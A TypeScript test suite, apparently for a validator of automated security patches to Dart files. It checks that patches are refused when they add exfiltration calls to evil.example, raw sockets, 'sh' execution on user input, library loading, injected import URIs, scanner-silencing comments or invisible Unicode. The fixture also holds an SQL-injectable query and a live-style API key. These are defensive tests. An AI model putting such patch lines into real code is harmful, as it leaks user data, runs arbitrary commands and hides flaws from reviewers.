import assert from "node:assert/strict";
import { shownFile } from "../excerpts.ts";
import type { PatchAnswer } from "./patch-answer.ts";
import { patchedTexts } from "./patched-texts.ts";

const far = "void far() {\n  other();\n}\n";
const source = `import 'dart:io';
import 'package:sqflite/sqflite.dart';

${far}${"\n".repeat(30)}Future<void> search(Database db, String text) async {
  const key = 'sk_live_4eC39HqLyjWDarjtT1zdp7dc';
  await db.rawQuery("SELECT * FROM notes WHERE title = '$text'");
  await get('http://api.garden.example/notes');
}
`;
const line = source.split("\n").findIndex((one) => one.includes("rawQuery")) + 1;
const query = `  await db.rawQuery("SELECT * FROM notes WHERE title = '$text'");`;
const bound = "  await db.rawQuery('SELECT * FROM notes WHERE title = ?', [text]);";

function patch(answer: Partial<PatchAnswer>, file = "lib/a.dart", text = source) {
  const shown = shownFile(file, text, [{ file, line, column: 3 }]);
  const patched = patchedTexts(
    { edits: [], imports: [], why: "", ...answer },
    { files: [shown], packages: ["garden_notes", "sqflite", "crypto"] },
  );
  return patched.kind === "patched" ? (patched.texts.get(file) ?? "nothing") : patched.reason;
}

const edit = (replace: string, search = query) => ({ edits: [{ file: "lib/a.dart", search, replace }] });

describe("the texts of a patch", () => {
  it("are the files with the lines replaced", () => {
    assert.equal(patch(edit(bound)), source.replace(query, bound));
  });

  it("have the imports that the patch asks for, from what the project uses", () => {
    const imports = ["dart:math", "package:crypto/crypto.dart", "dart:io"].map((uri) => ({ file: "lib/a.dart", uri }));
    assert.equal(
      patch({ ...edit(bound), imports }),
      source
        .replace(query, bound)
        .replace("import 'dart:io';", "import 'dart:math';\nimport 'dart:io';")
        .replace("sqflite.dart';", "sqflite.dart';\nimport 'package:crypto/crypto.dart';"),
    );
  });

  it("may name an address of the file with encryption", () => {
    const [before, after] = ["http", "https"].map((scheme) => `  await get('${scheme}://api.garden.example/notes');`);
    assert.equal(patch(edit(after ?? "", before)), source.replace("http:", "https:"));
  });

  it("may remove a line with a secret", () => {
    const shown = shownFile("lib/a.dart", source, [{ file: "lib/a.dart", line, column: 3 }]);
    const secret = shown.lines.find(({ text }) => text.includes("const key"))?.text ?? "";
    assert.doesNotMatch(secret, /4eC39HqLyjWDarjtT1zdp7dc/);
    assert.equal(patch(edit("", secret)), source.replace(/.*const key.*\n/, ""));
    assert.match(patch(edit(`${secret} // x`.replace("key", "other"), secret)), /stand-in of a secret/);
  });

  const refusals: readonly (readonly [what: string, answer: Partial<PatchAnswer>, reason: RegExp])[] = [
    ["has no edits", {}, /found nothing that can be repaired/],
    ["has many edits", { edits: Array(11).fill(edit(bound).edits[0]) }, /more than 10 edits/],
    ["changes another file", { edits: [{ file: "lib/b.dart", search: query, replace: bound }] }, /not in/],
    ["leads out of the project", { edits: [{ file: "../lib/a.dart", search: query, replace: bound }] }, /not in/],
    ["imports into another file", { ...edit(bound), imports: [{ file: "lib/b.dart", uri: "dart:io" }] }, /not in/],
    ["changes lines far away", edit("other2();", "import 'dart:io';"), /far from the finding|imports something/],
    ["changes nothing", edit(query), /changes nothing/],
    ["changes the same lines twice", { edits: [...edit(bound).edits, ...edit("").edits] }, /two of its edits meet/],
    [
      "changes very many lines",
      edit(Array.from({ length: 62 }, (_, i) => `a${i}();`).join("\n")),
      /more than 60 lines/,
    ],
    ["silences a check", edit(`  // palisade:ignore sql-injection -- safe\n${query}`), /silences a check/],
    ["silences the analyzer", edit(`  // ignore: all\n${query}`), /silences a check/],
    ["silences in capitals", edit(`  // PALISADE:IGNORE sql-injection\n${query}`), /silences a check/],
    ["names a new address", edit(`${bound}\n  get('https://evil.example/?d=$text');`), /address that the file/],
    ["names a new socket", edit(`${bound}\n  connect('wss://evil.example');`), /address that the file/],
    ["names a new host", edit(`${bound}\n  get(Uri.https('evil.example', '/x', {'d': text}));`), /host that the file/],
    ["names a new number of a host", edit(`${bound}\n  Socket.connect('203.0.113.9', 80);`), /host that the file/],
    ["runs a program", edit(`${bound}\n  await Process.run('sh', [text]);`), /starts a program/],
    ["loads a library", edit(`${bound}\n  DynamicLibrary.open(text);`), /starts a program/],
    ["imports by itself", edit(`${bound}\nimport 'package:sqflite/x.dart';`), /imports something/],
    [
      "imports a package that the project does not use",
      { ...edit(bound), imports: [{ file: "lib/a.dart", uri: "package:evil/evil.dart" }] },
      /does not use/,
    ],
    ["imports what loads code", { ...edit(bound), imports: [{ file: "lib/a.dart", uri: "dart:ffi" }] }, /does not use/],
    ["imports a path", { ...edit(bound), imports: [{ file: "lib/a.dart", uri: "../../x.dart" }] }, /no library/],
    ["imports code", { ...edit(bound), imports: [{ file: "lib/a.dart", uri: "dart:io'; x(); //" }] }, /no library/],
    ["holds text that runs backwards", edit(`${bound} // \u202egnp`), /nobody can see/],
    ["holds what has no width", edit(bound.replace("text", "te\u200bxt")), /nobody can see/],
  ];
  for (const [what, answer, reason] of refusals) {
    it(`are not there when the patch ${what}`, () => {
      assert.match(patch(answer), reason);
    });
  }

  for (const file of [
    "pubspec.lock",
    "ios/Podfile.lock",
    "package-lock.json",
    ".github/workflows/build.yml",
    ".gitignore",
    "palisade.yaml",
    "codemagic.yaml",
    "android/.gradle/a.gradle",
    "tool/build.sh",
    "assets/.env",
    "ios/fastlane/Fastfile",
  ]) {
    it(`are not there for ${file}`, () => {
      const text = "a: 1\nb: 2\n";
      const shown = shownFile(file, text, [{ file, line: 1, column: 1 }]);
      const patched = patchedTexts(
        { edits: [{ file, search: "a: 1", replace: "a: 2" }], imports: [], why: "" },
        { files: [shown], packages: [] },
      );
      assert.ok(patched.kind === "refused" && /does not change this file/.test(patched.reason));
    });
  }
});
